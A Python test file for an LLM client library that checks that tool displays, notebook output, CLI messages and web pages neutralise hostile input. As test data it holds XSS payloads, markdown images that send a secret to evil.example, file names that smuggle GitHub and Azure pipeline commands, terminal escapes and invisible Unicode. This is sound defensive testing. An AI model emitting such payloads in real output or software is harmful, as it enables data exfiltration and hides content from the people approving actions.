"""What comes from outside runs nothing and shows nothing of its own: restored displays are text, pages have a content security
policy, and a person who decides sees every letter.
"""

import gzip
import json
import re
from html import unescape
from pathlib import Path

import pytest
from click.testing import CliRunner

import ellmer_core as ec
from ellmer_conformance.cli import _group
from ellmer_conformance.cli.recordings import lint
from ellmer_conformance.report import Report
from ellmer_conformance.report.formats.html import page
from ellmer_conformance.report.formats.markdown import markdown
from ellmer_conformance.report.formats.terminal_escaping import printable as report_printable
from ellmer_conformance.server import status_page
from ellmer_core import contents_record, contents_replay
from ellmer_core._chat.answers import Answer
from ellmer_core._chat.console import ask_at_console
from ellmer_core.base.printable_text import revealed
from ellmer_core.live.browser import policy
from ellmer_core.mcp.questions import all_that_is_asked
from ellmer_core.render.html import contents_html, notebook_html, whole_page
from ellmer_core.render.tool_card import card
from ellmer_harness.cli import main as harness
from ellmer_harness.cli._terminal import harmless

HTML = {"html": "<script>go()</script>", "icon": "<img src=x onerror=go()>", "footer": "<form action=x>"}


def saved(**display):
    request = ec.ContentToolRequest("1", "look")
    result = ec.ContentToolResult("seen", extra={"display": display, "kept": 1}, request=request)
    return json.loads(json.dumps(contents_record([ec.UserTurn([result])])))


def test_a_restored_display_has_no_html():
    [turn] = contents_replay(saved(**HTML, title="Look", markdown="*x*"))

    assert turn.contents[0].extra == {"display": {"title": "Look", "markdown": "*x*"}, "kept": 1}
    assert not re.search("<script|onerror|<form", contents_html([turn]))


def test_a_program_that_trusts_its_own_records_gets_the_html():
    [turn] = contents_replay(saved(**HTML), trust_html=True)

    assert turn.contents[0].extra["display"] == HTML


def test_a_restored_chat_has_no_html_either():
    chat, other = (ec.chat("openai/gpt-4.1", api_key="k") for _ in range(2))
    result = ec.ContentToolResult("seen", extra={"display": HTML}, request=ec.ContentToolRequest("1", "f"))
    chat.set_turns([ec.UserTurn("?"), ec.AssistantTurn([result.request]), ec.UserTurn([result])])
    record = json.loads(json.dumps(chat.record()))

    other.restore(record)
    assert other.get_turns()[-1].contents[0].extra["display"] == {}
    other.restore(record, trust_html=True)
    assert other.get_turns()[-1].contents[0].extra["display"] == HTML


INVISIBLE = "\u202e\u2066\u200b\u00ad\ufeff\U000e0041\u3164\u2028\x1b\x7f\x9b\ufe01\U000e01ef"
#: All that shows nothing by itself: https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt (Default_Ignorable_Code_Point),
#: an empty pattern of Braille, and the controls of hieroglyphs.
IGNORED = "ad 34f 61c 115f-1160 17b4-17b5 180b-180f 200b-200f 202a-202e 2060-206f 2800 3164 fe00-fe0f feff ffa0 fff0-fff8 13430-1343f 1bca0-1bca3 1d173-1d17a e0000-e0fff"
EMOJI = "\u200d\ufe0e\ufe0f"


def ignored():
    for each in IGNORED.split():
        first, _, last = each.partition("-")
        yield from map(chr, range(int(first, 16), int(last or first, 16) + 1))


def test_all_that_shows_nothing_is_an_escape_in_each_printer():
    assert [letter for letter in ignored() if letter in revealed(letter)] == []
    for printer in (harmless, report_printable):
        assert [letter for letter in ignored() if letter in printer(letter)] == list(EMOJI)


def test_every_invisible_letter_is_an_escape():
    assert revealed("a\tb\nc é 漢 🙂") == "a\tb\nc é 漢 🙂"
    assert revealed(INVISIBLE).isascii()
    assert json.loads(f'"{revealed(INVISIBLE)}"') == INVISIBLE
    assert revealed("Delete\n::error::", line=True) == r"Delete\n::error::"


def test_who_approves_sees_what_arguments_hide(monkeypatch):
    asked = []
    monkeypatch.setattr("builtins.input", lambda text: asked.append(text) or "n")
    hidden = ec.ContentToolRequest("1", "run", {"command": f"ls {INVISIBLE}exe.txt", INVISIBLE: 1})

    ask_at_console(hidden)
    shown = card(hidden)

    for text in (*asked, shown.arguments, shown.call, shown.title):
        assert [letter for letter in text if letter in INVISIBLE] == []
    assert r"\u202e" in shown.arguments


LOADING = (
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    "\\![x](//evil.example)",
    "`a\n` ![x](https://evil.example) `",
    "- ```\n```\n![x](https://evil.example)",
    '![](data:image/png;base64,AAAA) ![](data:image/png;base64,AAAA"https://evil.example)',
    "<img src=https://evil.example>",
    "<svg/onload=go()>",
    "</p><!--",
)


@pytest.mark.parametrize("text", LOADING)
def test_a_notebook_loads_nothing_that_a_model_names(text):
    turn = ec.AssistantTurn([ec.ContentText(text), ec.ContentImageRemote("https://evil.example/pixel")])
    chat = ec.chat("openai/gpt-4.1", api_key="k")
    chat.set_turns([ec.UserTurn("?"), turn])
    for shown in (Answer(turn, shown=False), turn, chat):
        markdown = shown._repr_markdown_().replace("![](data:image/png;base64,AAAA)", "")
        assert not re.search(r"!\[|<[a-z/!?]", markdown)
        assert "default-src &#x27;none&#x27;; img-src data:" in shown._repr_html_()


def test_a_notebook_shows_the_markdown_of_an_answer_that_loads_nothing():
    text = "1 < 2, `a<2`, ![](data:image/png;base64,AAAA) **bold**! [x](https://example.com)"
    answer = Answer(ec.AssistantTurn(text), shown=False)

    assert (answer._repr_markdown_(), answer._repr_html_()) == (text, None)


def test_who_is_asked_about_a_question_to_the_model_sees_all_of_it():
    long, picture, other = "a" * 600, *(ec.ContentImageInline("image/png", data) for data in ("AAAA", "AAAB"))
    alone = all_that_is_asked(None, [ec.UserTurn(long)])
    told = all_that_is_asked(
        "Obey.", [ec.UserTurn("Hi"), ec.AssistantTurn("Yes"), ec.UserTurn([long, picture])]
    )

    assert alone == f"May the server ask the model this? {long}"
    assert told.splitlines()[1:5] == ["system: Obey.", "user: Hi", "assistant: Yes", f"user: {long}"]
    assert "ContentImageInline sha256:" in told
    assert all_that_is_asked(None, [ec.UserTurn([picture])]) != all_that_is_asked(
        None, [ec.UserTurn([other])]
    )


def test_every_page_has_a_policy_and_no_other_page_frames_the_live_ones():
    live, turns = policy([], []), [ec.UserTurn("Hi")]
    exported, notebook = whole_page(turns, "Chat"), unescape(notebook_html(turns))
    report = page(Report(), "folder")
    served = dict(status_page.page({"accept": "text/html"}, "reject").headers)["content-security-policy"]

    for text in (exported, notebook, live, report, served):
        assert "default-src 'none'" in text
        assert "base-uri 'none'" in text
        assert "form-action 'none'" in text
    assert "frame-ancestors 'none'" in live
    assert "frame-ancestors 'none'" in served
    assert "script-src 'sha256-" in report
    assert "allow-scripts" not in notebook


@pytest.mark.parametrize("command", ["ls", "scan"])
def test_the_name_of_a_file_commands_neither_the_terminal_nor_github(tmp_path, capsys, command):
    bad = tmp_path / "a\n::error::b\x1b[31m\u202e.json"
    bad.write_text(json.dumps({"interactions": [], "version": 1, "api_key": "AKIAIOSFODNN7EXAMPLE"}))
    damaged = tmp_path / "c\n::error::d.json.gz"
    damaged.write_bytes(gzip.compress(b"{}")[:-6])

    harness([command, str(tmp_path)])
    out, err = capsys.readouterr()

    assert not re.search(r"^\s*::", out + err, re.MULTILINE)
    assert r"c\n::error::d" in out + err
    assert "\x1b" not in out + err


UNSEEN = "\xad\u200b\ufeff\u2060\u3164\U0001d173\U000e0041"


@pytest.mark.parametrize("run", [["ls"], ["lint", "--format", "text"], ["lint", "--format", "github"]])
def test_what_a_name_hides_is_shown_and_commands_no_pipeline(tmp_path, capsys, run):
    for name in (
        f"a{UNSEEN}.json",
        "##vso[task.setvariable variable=x]1.json",
        "x ##vso[task.complete].json",
    ):
        (tmp_path / name).write_text('{"interactions": [{"request": ', "utf-8")

    if run[0] == "ls":
        harness(["ls", str(tmp_path)])
        said = "".join(capsys.readouterr())
    else:
        said = CliRunner().invoke(lint.command, [*run[1:], str(tmp_path)]).output

    assert [letter for letter in UNSEEN if letter in said] == []
    assert "##vso[" not in said
    assert "#vso[task.complete" in said


@pytest.mark.parametrize(
    "words",
    [
        ["diff", "FILE", "FILE"],
        ["merge", "-o", "out", "FILE"],
        ["lint", "NONE"],
        ["coverage", "NONE"],
        ["baseline", "check", "--baseline", "FILE"],
        ["repro", "x", "--report", "FILE"],
        ["report", "upstream", "--report", "FILE"],
        ["list", "FILE"],
        ["FILE"],
    ],
    ids=" ".join,
)
def test_an_error_that_quotes_a_name_commands_nothing(tmp_path, monkeypatch, words):
    monkeypatch.chdir(tmp_path)
    name = f"a\n ::error::b\x1b[2J\n##[error]c##vso[x]{UNSEEN}\u202e.json"
    Path(name).write_text("{}")
    named = {"FILE": name, "NONE": f"no{name}"}
    outcome = CliRunner().invoke(_group, [named.get(word, word) for word in words])

    assert outcome.exit_code == 2
    assert "error::b" in outcome.output.replace("\n", "")
    assert not re.search(r"^\s*(::|##\[)|##vso\[|[\x1b\u202e]", outcome.output, re.MULTILINE)
    assert [letter for letter in UNSEEN if letter in outcome.output] == []


def test_one_damaged_gzip_does_not_stop_the_scan(tmp_path, capsys):
    (tmp_path / "a.json.gz").write_bytes(gzip.compress(b'{"x": 1}')[:-6])
    (tmp_path / "b.json.gz").write_bytes(b"\x1f\x8b\x08\x00" + b"\xff" * 40)
    key = "AIza" + "SyB8xQ2mN4vR7tK1wZ5cH9pL3jF6dG0sYeU"
    (tmp_path / "c.json").write_text(json.dumps({"x-goog-api-key": key}))

    code = harness(["scan", str(tmp_path)])
    out = capsys.readouterr().out

    assert code == 1
    assert "a.json.gz: it cannot be read" in out
    assert "b.json.gz: it cannot be read" in out
    assert "c.json: /x-goog-api-key" in out


def test_the_summary_commands_neither_the_terminal_nor_a_pipeline():
    able = {"mine openai-chat/openai": {"tools": "\x1b[31m\n::error::"}}
    text = markdown(Report(capabilities=able), "out")

    assert "\\u001b[31m" in text
    assert not re.search(r"\x1b|^::", text, re.MULTILINE)
